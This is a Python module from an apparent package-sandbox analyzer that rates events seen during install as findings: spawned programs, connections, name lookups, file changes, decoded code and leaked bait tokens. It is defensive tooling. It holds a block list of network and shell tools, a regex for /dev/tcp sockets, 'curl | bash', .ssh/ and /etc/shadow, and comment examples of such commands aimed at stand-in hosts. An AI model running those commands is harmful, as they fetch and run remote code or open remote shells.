"""The rules: what is said of one event. Pure functions; above each rule is an example of it.

The subject of every title is the package. A rule that has nothing to say returns None.
"""

import os
import re
from dataclasses import replace
from typing import assert_never

from jail.orders import SCRATCH_FOLDERS, WORK_IN_JAIL
from jail.report.command_targets import writes_for_others
from jail.report.harmless import is_cache_data, is_harmless_look, is_known_startup
from jail.report.letters import is_known, name_seen_as
from jail.report.local_sockets import service_at
from jail.report.own_places import waiting_at
from jail.report.own_secrets import read_bait
from jail.report.remarks import judge_remark
from jail.report.techniques import DECODED, technique_of
from jail.report.text import plain
from jail.report.world_rules import judge_world
from jail.watch.events import (
    NOBODY,
    SYSTEM_FOLDERS,
    Actor,
    BaitLeaked,
    BaitRead,
    Change,
    Code,
    Connection,
    DependencyDenied,
    Downloaded,
    Event,
    Exec,
    FailedOften,
    FileChanged,
    Finding,
    IndexRefused,
    LeftAtWork,
    NameAsked,
    Net,
    Phase,
    PhaseName,
    ProcessEnded,
    Rule,
    Severity,
    StartsUnchecked,
    StartupCode,
    TraceContradicted,
    TraceCut,
    WitnessTampered,
    WorldEvent,
    is_near,
    plain_path,
)
from jail.watch.noticed import Remark

MAX_FINDING_CHARS = 300

# Programs that no package needs to be installed or imported, by what they serve to do, with the
# technique's number in MITRE ATT&CK.
GRAVE_PROGRAMS = {
    "fetch or send (T1105, T1048)": "curl wget nc ncat netcat socat telnet scp sftp ftp tftp rsync",
    "reach another machine (T1021)": "ssh",
    "ask for names (T1018)": "dig nslookup host ping",
    "run another system's scripts (T1059)": "powershell pwsh osascript",
    "come back later (T1053, T1543)": "crontab at systemctl",
    "change accounts, files, the kernel (T1136, T1222, T1547)": "useradd usermod chattr insmod",
    "mine (T1496)": "xmrig",
    "hide or open what is hidden (T1140)": "gpg openssl xxd base64",
}
GRAVE_NAMES = frozenset(" ".join(GRAVE_PROGRAMS.values()).split())
# One program with the work of many: its first argument says which.
MANY_IN_ONE = {"busybox", "toybox"}
# The same in the words of a shell, with a pipe into a shell, a socket of bash, keys, passwords.
#   sh -c "curl -s http://x | bash"      bash -c "exec 3<>/dev/tcp/192.0.2.1/80"
GRAVE_WORDS = re.compile(
    r"/dev/tcp/|base64 (?:-d|--decode)|\b(?:curl|wget|nc|crontab|systemctl) "
    r"|\| *(?:ba|z|da)?sh\b|\.ssh/|/etc/shadow"
)
# A program without a file that could be looked at: in memory, by a descriptor, by another process.
NO_FILE = re.compile(r"\(a file without a name\)|/proc/(?!self/exe$)|/dev/fd/|/memfd:")
# Where a package can put a program at run time. In the jail most have two names.
WRITABLE = (
    *(f"{WORK_IN_JAIL}/{folder}/" for folder in SCRATCH_FOLDERS if folder != "site"),
    *(f"{path}/" for path in SCRATCH_FOLDERS.values() if path),
    "/home/",
    "/var/tmp/",  # noqa: S108 - a pattern, not a file of ours
)
# `dash`, `python3.11`: what comes after it is a script.
INTERPRETER = re.compile(r"(?:ba|da|z)?sh|python[0-9.]*|perl")
# The system's own tools that a build starts. A package's own program may have any name, so that the
# whole path counts. Samples: /usr/bin/x86_64-linux-gnu-gcc-12, /usr/lib/gcc/x86_64-linux-gnu/12/cc1
BUILD_TOOL = re.compile(
    r"(/usr)?(/local)?/(s?bin|lib/gcc/.*)/([a-z0-9_]+-)*"
    r"(gcc|g\+\+|cc|c\+\+|clang|clang\+\+|ld|as|ar|ranlib|cc1|cc1plus|collect2|strip|make|gmake"
    r"|cmake|ninja|meson|rustc|cargo|swig|cython|pkg-config|git|uname|ldconfig|lsb_release|which"
    r"|gfortran|f951|llvm-config|install|patchelf)(-[0-9.]+)?"
)
# What the package brings for people to run, which `python -m` of it may start.
PROGRAM_OF_PACKAGE = re.compile(re.escape(WORK_IN_JAIL) + r"/site/[^/]+/bin/[^/]+")
# Generated code that only saves typing has no use for these; attrs writes one import of its own.
BUSY_CODE = re.compile(
    r"\b(exec|eval|__import__)\s*\((?!'attr\._make'\))|b64decode|marshal|os\.system|urlopen|ctypes"
    r"|\bsubprocess\.|\b(import|from)\b[^\n]*\bsubprocess\b|['\"]subprocess['\"]"
)
VERBS = {Net.TCP: "connects (tcp) to", Net.UDP: "sends (udp) to"}
# What pip leaves behind when it is stopped: what it had unpacked so far, which no Python looks at.
PIP_STAGING = re.compile(r"/tmp/pip-[^/]+/.*", re.DOTALL)  # noqa: S108
# `…/x.py`, `…/x.cpython-311-x86_64-linux-gnu.so`, `…/bin/tool`
ALTERED_CODE = re.compile(r".*\.(?:pyc?|so)|.*/bin/[^/]+", re.DOTALL)
# What a function does that is called with made-up arguments is what it is for.
CALLED_FOR = {Rule.NETWORK_ATTEMPT, Rule.PROCESS_SPAWN, Rule.LIMIT_HIT}


def judge(phase: Phase, event: Event) -> tuple[Finding, ...]:
    """The findings of an event: what its rule says, and whether Python's own witness was evaded."""
    actor = getattr(event, "actor", NOBODY)
    if isinstance(event, WorldEvent):
        return judge_world(phase, event)
    found = rule_for(phase, event)
    if found is None:
        return ()
    if actor.native:
        title = f"{found.title}, by native code ({actor.native})"
        found = replace(found, title=plain(title, MAX_FINDING_CHARS))
    findings = [] if is_own(event) else [found]
    # A function that was to start a made-up program has started nothing.
    is_nothing = phase.name == PhaseName.CALL and bool(getattr(event, "error", None))
    if actor.hidden and not (isinstance(event, Exec) and is_nothing):
        findings.append(hidden(found))
    return tuple(findings)


def rule_for(phase: Phase, event: Event) -> Finding | None:
    """The one rule for each kind of event."""
    match event:
        case Exec():
            return started_program(phase, event)
        case Connection():
            return reached(phase, event)
        case NameAsked():
            return asked_name(phase, event)
        case FileChanged():
            return changed_file(phase, event)
        case StartupCode():
            return startup_code(phase, event)
        case Code():
            return executed_code(phase, event)
        case BaitRead():
            return read_bait(phase, event)
        case BaitLeaked():
            return leaked_bait(phase, event)
        case WitnessTampered() | TraceContradicted() | TraceCut() | FailedOften():
            return tampered(event)
        case LeftAtWork():
            title = f"left {event.count} processes at work, which were ended with the phase"
            severity = softened(phase, Rule.LIMIT_HIT, Severity.MEDIUM)
            return finding(severity, Rule.LIMIT_HIT, title, Actor(process=event.process))
        case Remark():
            return judge_remark(phase, event)
        case Downloaded() | IndexRefused() | DependencyDenied() | ProcessEnded() | WorldEvent():
            return None
        case StartsUnchecked():
            return None
    assert_never(event)


def is_own(event: Event) -> bool:
    """Whether it is the launcher's or pip's doing, and no business of the package.

    A requirement by URL leads pip itself astray: of hosts, nothing but its index is its own to ask.
    """
    if isinstance(event, Connection):
        return event.actor.own and is_near(event.target)
    return isinstance(event, Exec) and event.actor.own


def finding(
    severity: Severity, rule: Rule, title: str, actor: Actor = NOBODY, place: str | None = None
) -> Finding:
    """A finding whose title is safe to show; place and process are cleaned where they are shown."""
    return Finding(
        severity, rule, plain(title, MAX_FINDING_CHARS), place or actor.place, actor.process or None
    )


# A Python with the hook starts "true" by a bare system call: high witness.hidden
# "from Python, but unseen by Python's own witness: runs true"
def hidden(found: Finding) -> Finding:
    title = f"from Python, but unseen by Python's own witness: {found.title}"
    return finding(Severity.HIGH, Rule.WITNESS_HIDDEN, title, Actor(process=found.process or ""))


# Exec("/usr/bin/curl", ("curl", "http://x"), ...): high process.spawn "runs curl http://x"
def started_program(phase: Phase, event: Exec) -> Finding:
    words = " ".join(event.argv)
    called = event.argv[0] if event.argv else ""
    if event.program.rpartition("/")[2] != called.rpartition("/")[2]:
        words = f"{event.program} as {words}"
    error = f" ({event.error})" if event.error else ""
    severity = softened(phase, Rule.PROCESS_SPAWN, command_severity(phase, event))
    return finding(severity, Rule.PROCESS_SPAWN, f"runs {words}{error}", event.actor)


def command_severity(phase: Phase, event: Exec) -> Severity:
    program, argv = plain_path(event.program), event.argv
    names = {program.rpartition("/")[2], *(word.rpartition("/")[2] for word in argv[:1])}
    if names & MANY_IN_ONE:
        names |= set(argv[1:2])
    if names & GRAVE_NAMES or NO_FILE.match(program):
        return Severity.HIGH
    if GRAVE_WORDS.search(" ".join((event.program, *argv))) or writes_for_others(argv):
        return Severity.HIGH
    # A build may run what it has just unpacked or compiled; nothing else has a reason to.
    if phase.name != PhaseName.INSTALL and is_dropped(program, argv):
        return Severity.HIGH
    if event.pool_helper or BUILD_TOOL.fullmatch(program):
        return Severity.INFO
    is_systems = bool(event.error) or program.startswith(SYSTEM_FOLDERS)
    if is_systems and is_harmless_look(argv):
        return Severity.INFO
    if phase.name == PhaseName.EXECUTE and PROGRAM_OF_PACKAGE.fullmatch(program):
        return Severity.INFO
    return Severity.MEDIUM


def is_dropped(program: str, argv: tuple[str, ...]) -> bool:
    """Whether the program, or the script that an interpreter is given, lies where a package writes.

    A relative path can only lead there, too. The script is the first word that is neither a flag
    nor a flag's value. After -c and -m comes what is executed, and no script.
    """
    if not program.startswith("/") or program.startswith(WRITABLE):
        return True
    if not INTERPRETER.fullmatch(program.rpartition("/")[2]):
        return False
    flag = ""
    for word in argv[1:]:
        if word.startswith("-"):
            flag = word
        elif plain_path(word).startswith(WRITABLE):
            return True
        elif not flag or flag.endswith(("c", "m")):
            return False
        else:
            flag = ""
        if flag.endswith("m"):
            return False
    return False


# Connection(Net.TCP, "192.0.2.1:443", ...): high network.attempt "connects (tcp) to 192.0.2.1:443"
# A listener that others can reach: medium "listens on 0.0.0.0:80"; on the loopback: info.
def reached(phase: Phase, event: Connection) -> Finding:
    near, verb, target = is_near(event.target), VERBS.get(event.net, "uses"), event.target
    if event.listens:
        verb, severity = "listens on", Severity.INFO if near else Severity.MEDIUM
    elif event.is_inside:
        severity, target = Severity.INFO, f"{target}, where it listens itself"
    elif event.net != Net.OTHER:
        severity = Severity.MEDIUM if near else Severity.HIGH
    else:
        service, severity = service_at(event.target) if near else ("", Severity.MEDIUM)
        target += f" (the machine's {service})" if service else ""
    severity = softened(phase, Rule.NETWORK_ATTEMPT, severity)
    return finding(severity, Rule.NETWORK_ATTEMPT, f"{verb} {target}", event.actor)


# NameAsked("evil.example", ...): high network.attempt "asks for the name evil.example"
# When it is run, that a program asks for a name is only worth a look: many exist to do that.
def asked_name(phase: Phase, event: NameAsked) -> Finding:
    severity = Severity.MEDIUM if phase.name == PhaseName.EXECUTE else Severity.HIGH
    taken = name_seen_as(event.name)
    # No function exists to ask for one that is only read as a known name.
    if not is_known(taken):
        severity = softened(phase, Rule.NETWORK_ATTEMPT, severity)
    title = f"asks for the name {event.name}" + (taken and f", which is read as {taken}")
    return finding(severity, Rule.NETWORK_ATTEMPT, title, event.actor)


def softened(phase: Phase, rule: Rule, severity: Severity) -> Severity:
    is_called_for = phase.name == PhaseName.CALL and rule in CALLED_FOR
    return Severity.INFO if is_called_for else severity


# FileChanged("/home/dev/.bashrc", Change.MODIFIED, ...): high persistence.write
# "modified /home/dev/.bashrc (shell start)". A file is judged by every name that leads to it.
def changed_file(phase: Phase, event: FileChanged) -> Finding | None:
    graves = []
    for number, path in enumerate((event.path, *event.other_paths)):
        # Behind a link, "/home/dev/link/../x" can be either of two.
        for likely in sorted({plain_path(path), plain_path(os.path.normpath(path))}):
            severity, why = path_severity(phase, event, likely)
            if severity:
                graves.append((list(Severity).index(severity), number, severity, path, why))
    if not graves:
        return None
    _, _, severity, path, why = min(graves)
    title = f"{event.change} {path}"
    if path != event.path:
        title += f" by way of {event.path}"
    title += f" ({why})"
    found = finding(severity, Rule.PERSISTENCE_WRITE, title, event.actor, event.place)
    return replace(found, technique=technique_of(why))


def path_severity(phase: Phase, event: FileChanged, path: str) -> tuple[Severity | None, str]:
    """How grave a change is under one of the file's names, and why; None for an everyday change."""
    if phase.name == PhaseName.INSTALL and PIP_STAGING.fullmatch(path):
        return None, ""
    if waiting := waiting_at(phase, event, path):
        return waiting
    if event.change == Change.DELETED:
        return None, ""
    if event.shadows:
        return Severity.HIGH, f"Python finds it in place of {event.shadows}"
    if not path.startswith(f"{WORK_IN_JAIL}/site/"):
        return None, ""
    is_altered = event.change == Change.MODIFIED and phase.name != PhaseName.INSTALL
    if is_altered and ALTERED_CODE.fullmatch(path):
        return Severity.HIGH, "installed code"
    severity = Severity.INFO if is_cache_data(path) else Severity.MEDIUM
    return severity, "among what is installed"


# StartupCode("/…/x.pth", "import evil"): medium pth.code
# "/…/x.pth runs code at every interpreter start: import evil"
def startup_code(phase: Phase, event: StartupCode) -> Finding | None:
    if phase.name == PhaseName.INSTALL and PIP_STAGING.fullmatch(plain_path(event.path)):
        return None
    title = f"{event.path} runs code at every interpreter start: {event.line}"
    severity = Severity.INFO if is_known_startup(event.line) else Severity.MEDIUM
    return finding(severity, Rule.PTH_CODE, title, place=event.path)


# Code(decoded=True, ...): high code.dynamic "executes decoded code, 120 bytes"
def executed_code(phase: Phase, event: Code) -> Finding:
    kind = "decoded" if event.decoded else "generated"
    title = f"executes {kind} code, {event.size_bytes} bytes" + (event.how and f", {event.how}")
    if event.decoded:
        return replace(
            finding(Severity.HIGH, Rule.CODE_DYNAMIC, title, place=event.place), technique=DECODED
        )
    is_busy = BUSY_CODE.search(event.text) and not is_known_startup(event.text)
    is_odd = event.how and phase.name != PhaseName.CALL
    severity = Severity.MEDIUM if is_busy or is_odd else Severity.INFO
    return finding(severity, Rule.CODE_DYNAMIC, title, place=event.place)


# BaitLeaked("NPM_TOKEN", "command curl x"): high secret.read
# "passes on NPM_TOKEN in command curl x"
# What a function prints that is called with made-up arguments, or a test, leaves no machine: info.
def leaked_bait(phase: Phase, event: BaitLeaked) -> Finding:
    title = f"passes on {event.name} in {event.where}"
    is_shown = phase.name == PhaseName.CALL and event.where.startswith("output ")
    severity = Severity.INFO if is_shown else Severity.HIGH
    return finding(severity, Rule.SECRET_READ, title, event.actor)


# TraceContradicted("connect to unix:/x: ENETUNREACH", ...): high evidence.tamper. The trace is what
# the jail must not be able to lie to; the Python witness can be, and so is worth less.
# FailedOften: who waits for a server of its own on this machine does the same.
def tampered(event: WitnessTampered | TraceContradicted | TraceCut | FailedOften) -> Finding:
    severity, actor = Severity.HIGH, getattr(event, "actor", NOBODY)
    match event:
        case WitnessTampered():
            severity, title = Severity.MEDIUM, f"the Python witness: {event.reason}"
        case TraceContradicted():
            title = f"shows the trace another call than it makes: {event.what}"
        case TraceCut():
            title = f"makes a {event.call} whose trace is too long to be kept whole"
        case FailedOften():
            is_waiting = event.error == "ECONNREFUSED" and is_near(event.what)
            severity = Severity.INFO if is_waiting else Severity.MEDIUM
            title = f"tries {event.count} times in vain: {event.what} ({event.error})"
    return finding(severity, Rule.EVIDENCE_TAMPER, title, actor)
